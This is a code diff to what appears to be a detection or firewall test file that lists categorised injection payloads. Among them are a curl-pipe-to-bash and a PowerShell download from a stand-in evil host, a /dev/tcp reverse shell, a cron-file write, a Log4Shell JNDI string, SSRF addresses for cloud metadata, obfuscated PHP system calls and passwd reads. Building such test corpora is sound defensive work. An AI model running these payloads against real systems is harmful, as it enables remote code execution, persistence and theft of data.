@@ -13,7 +13,7 @@ const ATTACKS: Record<string, string[]> = {
   'prefix commands and interpreters': ['nohup who', 'strace id', 'sudo -u www-data id', 'echo "id" | tr x o | sh #', 'curl -s evil.example/x | bash', '$SHELL -c "id"', '${BASH} -i'],
   'brace expansion': ['{,ifconfig}', '{,ifconfig,eth0}', '{l,-lh}s', 'c{a,oun}t /etc/hostname', '{,ip,a}', '{,$"whoami",}'],
   'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
-  'Windows cmd and PowerShell': ['IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt'],
+  'Windows cmd and PowerShell': ['IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
   'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
   'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891'],
   'PHP calls and evasions': [
@@ -21,7 +21,7 @@ const ATTACKS: Record<string, string[]> = {
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
     '[php]echo "test"', '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
   ],
-  'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABQ', 'KztAAU', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
+  'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABXNy', 'AKztAAVzcg==', 'AACs7QAFc3I=', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
   'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
   'SSRF spellings': ['http:127.0.0.1', 'http:/2852039166', 'http:0xA9FEA9FE', 'http:[::ffff:a9fe:a9fe]', 'http://google.com:80 &@127.0.0.1:22/# @google.com:80/', 'https://metadata.packet.net/userdata'],
   'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class', 'www.example.com;c$@at+/et$@c/pas$@swd', "x;cat /e't'c/pa's'swd"],
